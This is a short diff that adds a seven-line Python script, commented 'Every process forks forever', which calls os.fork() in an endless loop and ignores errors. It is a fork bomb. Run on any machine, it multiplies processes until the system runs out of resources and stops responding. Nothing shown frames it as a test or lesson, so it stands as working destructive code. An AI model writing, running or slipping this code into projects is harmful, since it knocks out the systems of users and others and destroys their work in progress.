@@ -1,0 +1,7 @@
+# Every process forks forever.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
